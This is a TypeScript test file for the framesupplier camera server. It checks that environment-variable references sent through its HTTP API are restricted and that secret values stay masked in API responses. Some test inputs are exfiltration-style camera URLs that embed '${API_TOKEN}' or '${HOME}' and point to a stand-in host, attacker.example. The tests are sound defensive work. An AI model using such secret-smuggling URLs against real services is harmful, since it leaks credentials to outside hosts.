/**
 * What the network may do with a system composed by createApp from a config
 * file that takes secrets from the environment: the API may reference (as
 * `${NAME}`) only the variables the file itself references, or those the
 * operator's envPrefixes allow; values the file took from the environment
 * never show in GET /api/config; with http.allowExec a camera from the API may
 * have a command worker. Real HTTP server, real system, the config parsed
 * from YAML text as `framesupplier run` parses it.
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { createApp, type App } from '../../src/app/index.js';
import { parseConfig } from '../../src/config/index.js';
import { createLogger } from '../../src/internal/logger.js';
import { vtest } from '../pipeline/helpers.js';

const TOKEN = 'security-test-token-0123456789';
const SHM = `/dev/shm/framesupplier-test-security-${process.pid}`;

function appFrom(yaml: string, env: Record<string, string>): App {
  const config = parseConfig(yaml, { env, fileName: 'security.yaml' });
  const http = config.http!;
  return createApp(config, { logger: createLogger({ level: 'silent' }), http: { config: http } });
}

describe('the network and the environment', { timeout: 120_000 }, () => {
  let app: App;
  let base: string;
  const post = async (id: string, body: unknown): Promise<{ status: number; code: string | undefined }> => {
    const r = await fetch(`${base}/api/cameras/${id}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    const json = (await r.json()) as { error?: { code: string } };
    return { status: r.status, code: json.error?.code };
  };

  before(async () => {
    // A camera password a camera added through the API names (`${CAM_OTHER_PASSWORD}`): the server's environment has it.
    process.env.CAM_OTHER_PASSWORD = 'other-camera-password-value';
    app = appFrom(
      [
        `shmDir: ${SHM}`,
        'http: { host: 127.0.0.1, port: 0, token: "${API_TOKEN}", envPrefixes: [CAM_], allowExec: true }',
        'cameras:',
        '  door:',
        `    source: "${vtest()}"`,
        '    capture: { loop: true, output: { width: 160, format: gray, fps: 2 } }',
        '    workers:',
        '      - id: motion',
        '        module: builtin:motion',
        '      - id: hook',
        '        command: [sleep, "600"]',
        '        env: { HOOK_SECRET: "${HOOK_SECRET}", LABEL: "${DOOR_LABEL}" }',
      ].join('\n'),
      { API_TOKEN: TOKEN, HOOK_SECRET: 'very-secret-hook-value', DOOR_LABEL: 'front-door-label' },
    );
    await app.start();
    base = app.dashboard!.url.replace(/\/$/, '');
  });
  after(async () => {
    await app?.close();
    rmSync(SHM, { recursive: true, force: true });
  });

  it('GET /api/config shows no value the file took from the environment', async () => {
    const text = await (await fetch(`${base}/api/config`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
    for (const value of [TOKEN, 'very-secret-hook-value', 'front-door-label']) assert.ok(!text.includes(value), `${value} in ${text}`);
    const camera = await (await fetch(`${base}/api/cameras/door`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
    assert.ok(!camera.includes('front-door-label') && !camera.includes('very-secret-hook-value'));
  });

  it("references: the file's own names and the allowed prefixes pass, any other name is 403", async () => {
    const camera = (source: string) => ({
      source,
      capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } },
      workers: [{ id: 'motion', module: 'builtin:motion' }],
    });
    assert.deepEqual(await post('leak', camera('rtsp://${API_TOKEN}@attacker.example/x')), { status: 201, code: undefined }, 'a name the file references');
    assert.deepEqual(
      await post('other', camera('rtsp://u:${CAM_OTHER_PASSWORD}@cam.local/x')),
      { status: 201, code: undefined },
      'a name with an allowed prefix',
    );
    // The camera runs with the variable's value now (not `${NAME}` as text until a restart); nothing shows it.
    const running = app.system.config.current().cameras.other!.source;
    assert.equal(running, `rtsp://u:${process.env.CAM_OTHER_PASSWORD}@cam.local/x`);
    for (const path of ['/api/cameras/other', '/api/config']) {
      const text = await (await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
      assert.ok(!text.includes(process.env.CAM_OTHER_PASSWORD!), `${path} shows the value`);
    }
    // Where no key or URL rule masks it (a zone's label), the value is masked too, by the system the entry went to: in every
    // answer and in the system's own masked config; and it is forgotten with the camera.
    const polygon = [
      [0, 0],
      [1, 0],
      [1, 1],
    ];
    const labelled = { ...camera(vtest()), zones: { hall: { polygon, labels: ['${CAM_OTHER_PASSWORD}'] } } };
    assert.deepEqual(await post('labelled', labelled), { status: 201, code: undefined });
    assert.deepEqual(app.system.cameras.areas('labelled').zones.hall?.labels, [process.env.CAM_OTHER_PASSWORD]);
    for (const path of ['/api/cameras/labelled', '/api/cameras/labelled/areas', '/api/config']) {
      const text = await (await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
      assert.ok(!text.includes(process.env.CAM_OTHER_PASSWORD!), `${path} shows the value: ${text}`);
    }
    assert.ok(!JSON.stringify(app.system.config.masked()).includes(process.env.CAM_OTHER_PASSWORD!));
    // In a URL's query under a name no rule knows: the capture's figures (its source, its errors) mask it too.
    assert.deepEqual(await post('signed', camera(`rtsp://127.0.0.1:9/x?sig=\${CAM_OTHER_PASSWORD}`)), { status: 201, code: undefined });
    for (const path of ['/api/cameras/signed', '/api/stats', '/api/cameras']) {
      const text = await (await fetch(`${base}${path}`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
      assert.ok(!text.includes(process.env.CAM_OTHER_PASSWORD!), `${path} shows the value: ${text}`);
    }
    assert.equal(app.system.stats().cameras.signed?.capture?.source, 'rtsp://127.0.0.1:9/x?sig=***');
    const removed = await fetch(`${base}/api/cameras/labelled`, { method: 'DELETE', headers: { authorization: `Bearer ${TOKEN}` } });
    assert.equal(removed.status, 200);
    // A value the schema refuses once filled in: ERR_CONFIG at the path, and no part of the value in the answer (the
    // port's message quotes what follows the colon).
    const port = await fetch(`${base}/api/cameras/badport`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify(camera('rtsp://cam.local:${CAM_OTHER_PASSWORD}/s')),
    });
    const portText = await port.text();
    assert.equal(port.status, 400, portText);
    assert.equal((JSON.parse(portText) as { error: { code: string } }).error.code, 'ERR_CONFIG');
    assert.match(portText, /cameras\.badport\.source/);
    assert.ok(!portText.includes(process.env.CAM_OTHER_PASSWORD!.slice(0, 8)), portText);
    // An allowed name the environment does not set: refused, not run as text.
    assert.deepEqual(await post('unset', camera('rtsp://u:${CAM_NOT_SET_HERE}@cam.local/x')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
    assert.equal(app.system.stats().cameras.unset, undefined);
    assert.deepEqual(await post('home', camera('rtsp://${HOME}@attacker.example/x')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
    assert.deepEqual(await post('path', camera('rtsp://cam.local/${PATH}')), { status: 403, code: 'ERR_HTTP_ENV_REFERENCE' });
    assert.equal(app.system.stats().cameras.home, undefined);
  });

  it('with http.allowExec, a camera from the API may have a command worker', async () => {
    const r = await post('cmd', {
      source: vtest(),
      capture: { loop: true, output: { width: 160, format: 'gray', fps: 2 } },
      workers: [{ id: 'sleeper', command: ['sleep', '600'] }],
    });
    assert.deepEqual(r, { status: 201, code: undefined });
  });
});
